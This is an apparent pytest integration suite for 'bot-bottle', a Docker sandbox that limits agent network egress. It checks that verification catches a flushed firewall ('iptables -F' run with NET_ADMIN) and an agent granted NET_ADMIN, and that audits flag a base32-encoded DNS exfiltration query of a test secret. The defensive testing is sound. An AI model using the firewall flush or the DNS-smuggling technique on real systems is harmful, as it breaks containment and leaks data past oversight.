"""`bottle verify` and `bottle audit` end to end on the Docker example backend.

The bottles' literal "internet" resolver is a fake upstream this test runs on the
gateway of its own egress network (on this machine); no query leaves the machine.
The host runs two bottles, probed in one module call. The suite must pass on the
real bottles, and fail - exit 1, naming the leaks - on a bottle whose firewall was
flushed behind bot-bottle's back, or whose agent was started with NET_ADMIN (which
could flush it), while its peer stays sealed; `bottle up` then restores it. The
audit must show an encoded query the agent made, flagged, and never the agent's
secret.
"""

from __future__ import annotations

import base64
import json
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.fake_upstream import serve
from tests.helpers import bottle, require_docker, with_net_admin
from tests.helpers import docker as _docker

pytestmark = pytest.mark.integration

NETWORK = "bbverify-egress"
SUBNET = "172.29.249.0/24"
GATEWAY = "172.29.249.1"
NAME = "verifytest"
PEER = "verifypeer"  # a second bottle on the same host
SECRET = "bb-verify-secret-value-3a7c9d"
ENCODED = base64.b32encode(SECRET.encode()).decode().rstrip("=").lower()

require_docker()


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return bottle(*args, BB_VERIFY_TOKEN=SECRET)


@pytest.fixture(scope="module")
def inventory(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    base = tmp_path_factory.mktemp("verify")
    assert _docker("network", "create", "--internal", "--subnet", SUBNET, NETWORK).returncode == 0
    port, servers = serve(GATEWAY, 0, base / "upstream.log")
    (base / f"{NAME}.yml").write_text(
        "env:\n  TOKEN: ${BB_VERIFY_TOKEN}\n"
        "runtime:\n  command: [sleep, infinity]\n"
        "egress:\n  routes:\n    - host: verify.bbtest.example\n"
    )
    (base / f"{PEER}.yml").write_text(
        "runtime:\n  command: [sleep, infinity]\n"
        "egress:\n  routes:\n    - host: peer.bbtest.example\n"
    )
    host = {
        "ansible_connection": "local",
        "ansible_python_interpreter": "/usr/bin/python3",
        "bottle_backend": "docker",
        "bottles": [{"manifest": f"{NAME}.yml"}, {"manifest": f"{PEER}.yml"}],
        "docker_bottle_upstream_dns": [f"{GATEWAY}#{port}"],
        "docker_bottle_egress_network": NETWORK,
        "docker_bottle_agent_image": "bot-bottle/netutils:latest",
        # the literal resolver the bottle must not reach: this test's, on this machine
        "bottle_verify_resolvers": [f"{GATEWAY}#{port}"],
        "bottle_verify_strict": True,
        "bottle_verify_audit_dir": str(base / "audit"),
    }
    path = base / "inventory.yml"
    path.write_text(json.dumps({"all": {"hosts": {"localhost": host}}}))
    try:
        up = run("up", "-i", str(path))
        assert up.returncode == 0, up.stdout + up.stderr
        yield path
    finally:
        run("down", "-i", str(path))
        for server in servers:
            server.shutdown()
            server.server_close()  # type: ignore[attr-defined]
        _docker("network", "rm", NETWORK)


def verify(inventory: Path) -> tuple[int, dict[str, Any], str]:
    proc = run("verify", "-i", str(inventory), "--format", "json")
    data: dict[str, Any] = json.loads(proc.stdout) if proc.stdout.startswith("{") else {}
    return proc.returncode, data, proc.stdout + proc.stderr


def row(data: dict[str, Any], name: str = NAME) -> dict[str, Any]:
    [found] = [r for r in data["hosts"]["localhost"] if r["bottle"] == name]
    return dict(found)


def checks(data: dict[str, Any], name: str = NAME) -> dict[str, str]:
    return {c["name"]: c["verdict"] for c in row(data, name)["results"]}


def test_the_example_bottle_is_sealed(inventory: Path) -> None:
    code, data, output = verify(inventory)
    assert code == 0, output
    assert data["verdict"] == "sealed"
    assert sorted(r["bottle"] for r in data["hosts"]["localhost"]) == [PEER, NAME]
    assert row(data, PEER)["verdict"] == "sealed", output
    verdicts = checks(data)
    for name in (
        "allowed-name",
        "subdomain-nxdomain-udp",
        "subdomain-nxdomain-tcp",
        "unlisted-nxdomain-udp",
        "unlisted-nxdomain-tcp",
        "docker-embedded-dns-udp",
        "docker-embedded-dns-tcp",
        "gateway-udp",
        "gateway-tcp",
        "gateway-dot",
        f"literal-{GATEWAY}-udp",
        f"literal-{GATEWAY}-tcp",
        f"literal-{GATEWAY}-connect",
        "capabilities",
    ):
        assert verdicts.get(name) == "pass", (name, output)
    # the probe left nothing behind in the agents
    for name in (NAME, PEER):
        listing = _docker("exec", f"bottle-{name}", "ls", "-a", "/tmp").stdout
        assert ".bottle-probe" not in listing


def _probe_events(stderr: str) -> list[dict[str, Any]]:
    """The job events of the run's bottle_probe tasks (from the artifacts it names)."""
    [line] = [x for x in stderr.splitlines() if x.startswith("artifacts: ")]
    events = [json.loads(p.read_text()) for p in Path(line.split(": ", 1)[1]).glob("job_events/*")]
    return [
        e
        for e in events
        if e["event"].startswith(("runner_on_", "runner_item_on_"))
        and e["event"] != "runner_on_start"
        and e["event_data"].get("resolved_action") == "botbottle.bottle.bottle_probe"
    ]


def test_one_module_call_probes_both_bottles_of_the_host(inventory: Path, tmp_path: Path) -> None:
    proc = bottle(
        "verify",
        "-i",
        str(inventory),
        "--format",
        "json",
        BB_VERIFY_TOKEN=SECRET,
        BOTTLE_ARTIFACTS_DIR=str(tmp_path),
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    # one task result for the host - not a loop with an item per bottle - holds both bottles
    [event] = _probe_events(proc.stderr)
    assert event["event"] == "runner_on_ok", event["event"]
    result = event["event_data"]["res"]
    assert "results" not in result  # a loop's items would be there
    assert sorted((b["bottle"], b["verdict"]) for b in result["bottles"]) == [
        (PEER, "sealed"),
        (NAME, "sealed"),
    ]
    assert result["verdict"] == "sealed"
    # each bottle was probed with its own names, and the report row is that bottle's result
    data = json.loads(proc.stdout)
    for probed in result["bottles"]:
        assert row(data, probed["bottle"])["results"] == probed["results"]
    names = {
        b["bottle"]: {c["evidence"]["probe"].split()[-1] for c in b["results"]}
        for b in result["bottles"]
    }
    assert "verify.bbtest.example" in names[NAME] and "peer.bbtest.example" in names[PEER]


def test_the_audit_shows_an_encoded_query_flagged_and_never_the_secret(inventory: Path) -> None:
    # positive control: the allowlisted name resolves from the agent
    ok = _docker(
        "exec", f"bottle-{NAME}", "dig", "+short", "+time=2", "+tries=1", "verify.bbtest.example"
    )
    assert ok.stdout.strip() == "192.0.2.1"
    smuggle = _docker(
        "exec",
        f"bottle-{NAME}",
        "dig",
        "+time=2",
        "+tries=1",
        "TXT",
        f"{ENCODED}.verify.bbtest.example",
    )
    assert "status: NXDOMAIN" in smuggle.stdout
    proc = run("audit", NAME, "-i", str(inventory), "--since", "1h", "--format", "json")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    rows = [json.loads(line) for line in proc.stdout.splitlines()]
    [hit] = [r for r in rows if r["name"] == f"{ENCODED}.verify.bbtest.example"]
    assert hit["type"] == "TXT" and hit["verdict"] == "NXDOMAIN" and hit["host"] == "localhost"
    assert "base32" in hit["flags"]
    assert not [r for r in rows if r["name"].startswith("bottle-verify-")]  # the verifier's own
    text = run("audit", NAME, "-i", str(inventory))
    assert "! " in text.stdout and "flagged" in text.stdout
    audit_dir = Path(
        json.loads(inventory.read_text())["all"]["hosts"]["localhost"]["bottle_verify_audit_dir"]
    )
    stored = (audit_dir / f"{NAME}.jsonl").read_text()
    assert ENCODED in stored
    for blob in (proc.stdout, proc.stderr, text.stdout, text.stderr, stored):
        assert SECRET not in blob


def test_a_weakened_bottle_fails_verify_and_up_restores_it(inventory: Path) -> None:
    # Plant the weakness the way an attacker with NET_ADMIN would: flush the bottle's rules.
    flush = with_net_admin(
        f"bottle-{NAME}-net", "sh", "-c", "iptables -F && iptables -X && ip6tables -F"
    )
    assert flush.returncode == 0, flush.stderr
    code, data, output = verify(inventory)
    assert code == 1, output
    assert data["verdict"] == "leak"
    assert row(data, PEER)["verdict"] == "sealed", output  # probed alongside, untouched
    verdicts = checks(data)
    assert verdicts["docker-embedded-dns-udp"] == "leak"
    assert verdicts["docker-embedded-dns-tcp"] == "leak"
    assert verdicts["gateway-udp"] == "leak"
    assert verdicts[f"literal-{GATEWAY}-connect"] == "leak"
    assert "LEAKS" in output
    # the text table names the leaking checks
    text = run("verify", "-i", str(inventory))
    assert text.returncode == 1 and "LEAK" in text.stdout and "gateway-udp" in text.stdout
    # `bottle up` sees the rules are gone, reloads them, and verify passes again
    up = run("up", "-i", str(inventory))
    assert up.returncode == 0, up.stdout + up.stderr
    assert "changed" in up.stdout  # docker_bottle reloaded the rules
    code, data, output = verify(inventory)
    assert code == 0 and data["verdict"] == "sealed", output


def _capabilities(data: dict[str, Any]) -> dict[str, Any]:
    [check] = [c for c in row(data)["results"] if c["name"] == "capabilities"]
    return dict(check)


def test_an_agent_started_with_net_admin_fails_verify(inventory: Path) -> None:
    # positive control: the real agent's sets were read, and hold nothing outside the allowlist
    code, data, output = verify(inventory)
    assert code == 0, output
    control = _capabilities(data)
    assert control["verdict"] == "pass", output
    assert control["evidence"]["forbidden"] == [] and control["evidence"]["held"]
    agent = f"bottle-{NAME}"
    [info] = json.loads(_docker("container", "inspect", agent).stdout)
    mounts = [
        f"--mount=type=bind,source={m['Source']},target={m['Destination']}"
        + ("" if m["RW"] else ",readonly")
        for m in info["Mounts"]
    ]
    labels = [f"--label={k}={v}" for k, v in (info["Config"]["Labels"] or {}).items()]
    entrypoint = info["Config"]["Entrypoint"] or []
    start = [
        *(["--init"] if info["HostConfig"].get("Init") else []),
        *(["--entrypoint", entrypoint[0]] if entrypoint else []),
        info["Config"]["Image"],
        *entrypoint[1:],
        *(info["Config"]["Cmd"] or []),
    ]
    try:
        # The agent a manifest spelling NET_ADMIN past the validator would get: the same
        # image, init, entrypoint, command, mounts, labels and name, in the same network
        # namespace (the bottle's own, whose resolver is the bottle's: Docker refuses --dns
        # with a container network).
        assert _docker("rm", "-f", agent).returncode == 0
        started = _docker(
            "run",
            "--detach",
            "--name",
            agent,
            "--network",
            f"container:{agent}-net",
            "--cap-drop",
            "ALL",
            "--cap-add",
            "NET_ADMIN",
            "--security-opt",
            "no-new-privileges:true",
            *mounts,
            *labels,
            *start,
        )
        assert started.returncode == 0, started.stderr
        code, data, output = verify(inventory)
        assert code == 1, output
        assert data["verdict"] == "leak"
        leak = _capabilities(data)
        assert leak["verdict"] == "leak", output
        assert "init bounding: NET_ADMIN" in leak["evidence"]["forbidden"]
        assert "self bounding: NET_ADMIN" in leak["evidence"]["forbidden"]
        assert "NET_ADMIN" in leak["observed"] and "LEAKS: capabilities" in output
        assert f"docker rm -f {agent}" in output  # the fix: up would keep the container
        # its firewall is still in place: the capability check is what caught it
        assert [n for n, v in checks(data).items() if v != "pass"] == ["capabilities"]
    finally:
        _docker("rm", "-f", agent)
        up = run("up", "-i", str(inventory))
    assert up.returncode == 0, up.stdout + up.stderr
    [restored] = json.loads(_docker("container", "inspect", agent).stdout)
    assert not restored["HostConfig"]["CapAdd"]
